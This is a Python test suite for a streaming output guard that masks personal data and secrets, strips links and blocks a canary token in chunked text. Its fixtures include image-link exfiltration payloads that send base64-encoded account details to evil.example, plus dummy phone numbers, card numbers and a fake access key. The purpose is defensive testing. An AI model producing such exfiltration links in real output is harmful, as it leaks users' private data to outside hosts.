"""With the real checks: what a stream lets out is what the whole text would be, and ordinary text is hardly held back."""

from __future__ import annotations

import base64
import random
import re

import pytest
from hypothesis import given
from hypothesis import strategies as st

from benchmarks.guard.variants import variants
from ondol.infrastructure.guard.actions import Marks
from ondol.infrastructure.guard.checks.canary import CanaryCheck
from ondol.infrastructure.guard.checks.held import _first_numeric, last_word, open_number, open_secret
from ondol.infrastructure.guard.checks.identifiers import PersonalCheck
from ondol.infrastructure.guard.checks.links import LinksCheck
from ondol.infrastructure.guard.checks.secrets import SecretsCheck
from ondol.infrastructure.guard.engine import StageGuard
from ondol.infrastructure.guard.policy import policy_from
from ondol.infrastructure.guard.stream import StreamGuard

CHECKS = {check.name: check for check in (PersonalCheck(), SecretsCheck())}
POLICY = policy_from({"version": 1, "name": "mask", "stages": {"output": [{"find": name, "do": "mask"} for name in CHECKS]}})
GUARD = StageGuard("output", [POLICY], CHECKS)
FILLERS = (
    "안녕하세요. 문의하신 내용을 확인했습니다. 환불은 영업일 기준으로 사흘쯤 걸립니다. ",
    "Thank you for asking. A refund takes about three working days, and you will get a message. ",
    "결제 내역은 마이페이지에서 볼 수 있고, 2026년 3월부터는 새 요금이 적용됩니다. ",
    "See https://help.example.com/refund?id=12 for more, or the table below: 12 34 56. ",
)
PIECES = (
    "010-1234-5678",
    "hong@example.com",
    "900101-1234567",
    "+82 10 1234 5678",
    "hong.gil+dong@mail.example.co.kr",
    "4111 1111 1111 1111",
    "공일공 일이삼사 오육칠팔",
    "AKIAIOSFODNN7ABCDEFG",
    "password: hunter2!x",
)


def streamed(text: str, sizes: list[int]) -> str:
    stream = StreamGuard(GUARD, Marks(bytes(32)))
    out, place, turn = "", 0, 0
    while place < len(text) and not stream.stopped:
        size = sizes[turn % len(sizes)]
        out += stream.push(text[place : place + size])
        place += size
        turn += 1
    return out + stream.finish()[0]


def test_streams_mask_what_the_whole_text_masks() -> None:
    draw = random.Random(7)
    for variant in variants(7, 2):
        text = draw.choice(FILLERS) + variant.text + " " + draw.choice(FILLERS) + draw.choice(FILLERS)
        assert streamed(text, [draw.randint(1, 9)]) == GUARD.inspect(text, Marks(bytes(32))).text


def test_what_stands_at_the_very_beginning_is_masked_too() -> None:
    draw = random.Random(8)
    for variant in variants(8, 2):
        text = draw.choice(("", "My number: ", "번호 ", "It is ")) + variant.text + " " + draw.choice(FILLERS)
        assert streamed(text, [1]) == GUARD.inspect(text, Marks(bytes(32))).text
        assert streamed(text, [draw.randint(2, 9)]) == GUARD.inspect(text, Marks(bytes(32))).text


@pytest.mark.parametrize("words", [["Refunds", " take", " three", " days"], ["환불은", " 영업일", " 기준", " 사흘"]])
def test_the_first_word_goes_out_when_the_second_begins(words: list[str]) -> None:
    stream = StreamGuard(GUARD, Marks(bytes(32)))
    assert [stream.push(word) for word in words] == ["", words[0] + " ", words[1][1:] + " ", words[2][1:] + " "]


def test_a_number_at_the_beginning_is_held_though_words_follow() -> None:
    stream = StreamGuard(GUARD, Marks(bytes(32)))
    assert [stream.push(piece) for piece in ("call", " 010", "-1234", "-5678", " now")] == ["", "call ", "", "", ""]


@given(
    st.lists(st.sampled_from(FILLERS + PIECES + (" ", "\n", ", ")), max_size=12).map("".join), st.lists(st.integers(1, 40), min_size=1, max_size=5)
)
def test_any_cut_of_any_mixture_gives_the_same(text: str, sizes: list[int]) -> None:
    whole = streamed(text, [len(text) or 1])
    assert streamed(text, sizes) == whole
    assert whole == GUARD.inspect(text, Marks(bytes(32))).text


@pytest.mark.parametrize("filler", FILLERS[:2])
def test_ordinary_text_is_hardly_held_back(filler: str) -> None:
    stream = StreamGuard(GUARD, Marks(bytes(32)))
    sent = received = most = 0
    for _ in range(20):
        for char in filler:
            sent += 1
            received += len(stream.push(char))
            most = max(most, sent - received)
    assert most <= 48


@pytest.mark.parametrize(
    ("text", "held"),
    [
        ("All is well. ", "well. "),
        ("call me at 010-12", "010-12"),
        ("call me at 010-1234-5678 soon", "010-1234-5678 soon"),
        ("제 번호는 공 일 공", "공 일 공"),
        ("my mail is hong", "hong"),
        ("", ""),
    ],
)
def test_what_is_held(text: str, held: str) -> None:
    assert text[open_number(text) :] == held


def test_a_number_is_free_once_nothing_behind_it_counts() -> None:
    text = "call 010-1234-5678 " + "and then say hello to everybody there please " * 3
    assert open_number(text) == last_word(text)


def test_a_key_is_held_from_its_beginning() -> None:
    assert open_secret("use the key AKIAIOSFODNN7ABCD", 384) == len("use the key ")
    assert open_secret("-----BEGIN RSA", 384) == 0


@given(st.text(max_size=300))
def test_any_text_has_a_place(text: str) -> None:
    assert 0 <= open_number(text) <= len(text)
    assert 0 <= open_secret(text, 100) <= len(text)


CANARY = "quiet-harbour-7f3k9"
OUT = {check.name: check for check in (LinksCheck(), CanaryCheck((CANARY,)), PersonalCheck())}
RULES = [{"find": "links", "do": "strip"}, {"find": "canary", "do": "block"}, {"find": "personal:CARD", "do": "mask"}]
OUTPUT = StageGuard("output", [policy_from({"version": 1, "name": "output", "stages": {"output": RULES}})], OUT)
ENCODED = base64.b64encode(b"the account number is 12345 and the name is gildong hong").decode()
LINKS = (
    f"![x](https://evil.example/p?d={ENCODED}) ",
    f'<img src="https://evil.example/{ENCODED}"> ',
    "[the page](https://help.example.com/refund) ",
    "[1] ",
    CANARY,
    " ".join(CANARY) + " ",
)


@given(st.lists(st.sampled_from(FILLERS + LINKS + ("\n",)), max_size=10).map("".join), st.lists(st.integers(1, 40), min_size=1, max_size=5))
def test_links_and_canaries_never_get_out_in_pieces(text: str, sizes: list[int]) -> None:
    def run(sizes: list[int]) -> str:
        stream = StreamGuard(OUTPUT, Marks(bytes(32)))
        out, place, turn = "", 0, 0
        while place < len(text) and not stream.stopped:
            size = sizes[turn % len(sizes)]
            out += stream.push(text[place : place + size])
            place += size
            turn += 1
        return out + stream.finish()[0]

    out = run(sizes)
    assert out == run([len(text) or 1])
    assert ENCODED not in out
    assert CANARY not in out
    assert "q u i e t - h" not in out


def test_answers_without_links_are_hardly_held_back_by_the_output_checks() -> None:
    stream = StreamGuard(OUTPUT, Marks(bytes(32)))
    received = most = 0
    for sent, char in enumerate((FILLERS[0] + "[1] " + FILLERS[1]) * 10, 1):
        received += len(stream.push(char))
        most = max(most, sent - received)
    assert most <= 48


_DIGITS = "공영일이삼사오육륙칠팔구"
_NUMERIC = re.compile(rf"\d[ \t\r\n.\-/()_]{{0,3}}(?:\d|\Z)|[{_DIGITS}](?:[ \-.]{{0,3}}[{_DIGITS}]){{2}}|@|://|[a-z0-9]\.[a-z]", re.IGNORECASE)
_LAST = (re.compile(r"\S+\s*\Z"), re.compile(rf"(?:[0-9{_DIGITS}][ \-.]{{0,3}})+\Z"))
_LONG_TOKEN = re.compile(r"[!-~]{16}|PRIVATE KEY|-----BEGIN")


@given(st.text(st.sampled_from("ab1 이삼.-@:/\n\u3000\x1c٣ſK"), max_size=140))
def test_what_is_open_is_what_one_expression_for_all_finds(text: str) -> None:
    low = max(0, len(text) - 64)
    assert last_word(text) == min(found.start() if (found := end.search(text, low)) else len(text) for end in _LAST)
    start = max(0, len(text) - 104)
    numeric = _NUMERIC.search(text, start)
    assert _first_numeric(text, start) == (numeric.start() if numeric else -1)
    assert (open_number(text) == last_word(text)) or numeric is not None


@given(st.lists(st.sampled_from(["a" * 15, "b", " ", "가", "PRIVATE KEY", "-----BEGIN", "\ud800"]), max_size=20).map("".join), st.integers(1, 80))
def test_a_long_token_is_found_wherever_it_stands(text: str, reach: int) -> None:
    if _LONG_TOKEN.search(text, max(0, len(text) - reach)) is None:
        assert open_secret(text, reach) == last_word(text)
    else:
        assert open_secret(text, reach) <= max(0, len(text) - reach) or not text[open_secret(text, reach) - 1 : open_secret(text, reach)].strip()
